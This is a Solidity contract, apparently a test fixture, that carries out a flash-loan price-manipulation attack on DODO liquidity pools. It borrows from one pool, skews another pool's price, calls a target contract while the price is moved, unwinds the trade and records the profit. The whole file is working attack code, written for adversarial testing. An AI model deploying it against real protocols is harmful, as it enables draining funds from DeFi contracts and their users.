// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.28;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {IDODOCallee} from "./interfaces/IDODOCallee.sol";
import {IDODOPool} from "./interfaces/IDODOPool.sol";

/// @title FlashAttacker
/// @notice Test fixture: a flash-loan price manipulation, for adversarial
/// tests. In one transaction it
/// 1. borrows from a DODO pool (`lender`) with `flashLoan`;
/// 2. in the callback, sells `amountIn` into the `pool` under attack
///    (base when `sellBaseFirst`, quote otherwise), moving its price;
/// 3. optionally calls `target` with `targetData` while the price is moved
///    (for example a contract's `poke(pool)`); the outcome is recorded, and a
///    revert there does not stop the attack;
/// 4. sells everything the first leg bought back into `pool`;
/// 5. repays the lender exactly what it lent, and records the profit.
///
/// DODO pools refuse reentry, so `lender` must be another pool than `pool`
/// (a deep pool of the same tokens, say). The attacker pays for its own
/// losses (fees, slippage) from its balance: fund it before an attack.
contract FlashAttacker is Ownable, IDODOCallee {
    using SafeERC20 for IERC20;

    struct Plan {
        address pool;
        bool sellBaseFirst;
        uint256 amountIn;
        address target;
        bytes targetData;
    }

    /// @notice Change of this contract's balance of the attacked pool's base
    /// token over the last attack.
    int256 public lastProfitBase;
    /// @notice Change of this contract's balance of the attacked pool's quote
    /// token over the last attack.
    int256 public lastProfitQuote;
    /// @notice What the first leg bought.
    uint256 public lastFirstLegOut;
    /// @notice What the second leg bought back.
    uint256 public lastSecondLegOut;
    /// @notice Whether the mid-manipulation call succeeded.
    bool public lastTargetSuccess;
    /// @notice The mid-manipulation call's return or revert data.
    bytes public lastTargetReturn;

    address private _activeLender;

    /// @notice One attack done.
    event Attacked(
        address indexed lender,
        address indexed pool,
        uint256 firstLegOut,
        uint256 secondLegOut,
        bool targetCalled,
        bool targetSuccess,
        int256 profitBase,
        int256 profitQuote
    );

    /// @notice A flash-loan callback that this contract did not ask for.
    error UnexpectedCallback();

    /// @param owner_ Account allowed to attack and withdraw.
    constructor(address owner_) Ownable(owner_) {}

    /// @notice Runs the attack described above.
    /// @param lender DODO pool to borrow from (not `pool`).
    /// @param borrowBase Amount of the lender's base token to borrow.
    /// @param borrowQuote Amount of the lender's quote token to borrow.
    /// @param pool DODO pool to manipulate.
    /// @param sellBaseFirst Sell base first (pushes the price down) or quote (up).
    /// @param amountIn Size of the first sell.
    /// @param target Contract to call mid-manipulation; zero for none.
    /// @param targetData Calldata for `target`.
    /// @return profitBase Balance change in `pool`'s base token.
    /// @return profitQuote Balance change in `pool`'s quote token.
    function attack(
        address lender,
        uint256 borrowBase,
        uint256 borrowQuote,
        address pool,
        bool sellBaseFirst,
        uint256 amountIn,
        address target,
        bytes calldata targetData
    ) external onlyOwner returns (int256, int256) {
        bytes memory plan = abi.encode(Plan(pool, sellBaseFirst, amountIn, target, targetData));
        return _attack(lender, borrowBase, borrowQuote, plan);
    }

    /// @notice Sends `amount` of `token` to `to`.
    function withdraw(address token, address to, uint256 amount) external onlyOwner {
        IERC20(token).safeTransfer(to, amount);
    }

    /// @inheritdoc IDODOCallee
    function DSPFlashLoanCall(address sender, uint256 baseAmount, uint256 quoteAmount, bytes calldata data)
        external
    {
        _onLoan(sender, baseAmount, quoteAmount, data);
    }

    /// @inheritdoc IDODOCallee
    function DVMFlashLoanCall(address sender, uint256 baseAmount, uint256 quoteAmount, bytes calldata data)
        external
    {
        _onLoan(sender, baseAmount, quoteAmount, data);
    }

    /// @inheritdoc IDODOCallee
    function DPPFlashLoanCall(address sender, uint256 baseAmount, uint256 quoteAmount, bytes calldata data)
        external
    {
        _onLoan(sender, baseAmount, quoteAmount, data);
    }

    function _onLoan(address sender, uint256 baseAmount, uint256 quoteAmount, bytes calldata data) private {
        if (msg.sender != _activeLender || sender != address(this)) revert UnexpectedCallback();
        Plan memory plan = abi.decode(data, (Plan));
        IDODOPool pool = IDODOPool(plan.pool);
        (IERC20 base, IERC20 quote) = _tokens(plan.pool);

        uint256 firstOut = _sell(pool, plan.sellBaseFirst ? base : quote, plan.sellBaseFirst, plan.amountIn);
        lastFirstLegOut = firstOut;

        if (plan.target != address(0)) {
            (bool ok, bytes memory ret) = plan.target.call(plan.targetData);
            lastTargetSuccess = ok;
            lastTargetReturn = ret;
        }

        lastSecondLegOut = _sell(pool, plan.sellBaseFirst ? quote : base, !plan.sellBaseFirst, firstOut);

        IDODOPool lender = IDODOPool(msg.sender);
        if (baseAmount > 0) IERC20(lender._BASE_TOKEN_()).safeTransfer(msg.sender, baseAmount);
        if (quoteAmount > 0) IERC20(lender._QUOTE_TOKEN_()).safeTransfer(msg.sender, quoteAmount);
    }

    function _attack(address lender, uint256 borrowBase, uint256 borrowQuote, bytes memory encodedPlan)
        private
        returns (int256 profitBase, int256 profitQuote)
    {
        Plan memory plan = abi.decode(encodedPlan, (Plan));
        (IERC20 base, IERC20 quote) = _tokens(plan.pool);
        uint256 baseBefore = base.balanceOf(address(this));
        uint256 quoteBefore = quote.balanceOf(address(this));
        lastTargetSuccess = false;
        delete lastTargetReturn;

        _activeLender = lender;
        IDODOPool(lender).flashLoan(borrowBase, borrowQuote, address(this), encodedPlan);
        _activeLender = address(0);

        profitBase = int256(base.balanceOf(address(this))) - int256(baseBefore);
        profitQuote = int256(quote.balanceOf(address(this))) - int256(quoteBefore);
        lastProfitBase = profitBase;
        lastProfitQuote = profitQuote;
        emit Attacked(
            lender,
            plan.pool,
            lastFirstLegOut,
            lastSecondLegOut,
            plan.target != address(0),
            lastTargetSuccess,
            profitBase,
            profitQuote
        );
    }

    function _tokens(address pool) private view returns (IERC20 base, IERC20 quote) {
        base = IERC20(IDODOPool(pool)._BASE_TOKEN_());
        quote = IERC20(IDODOPool(pool)._QUOTE_TOKEN_());
    }

    function _sell(IDODOPool pool, IERC20 token, bool isBase, uint256 amount) private returns (uint256) {
        if (amount == 0) return 0;
        token.safeTransfer(address(pool), amount);
        return isBase ? pool.sellBase(address(this)) : pool.sellQuote(address(this));
    }
}
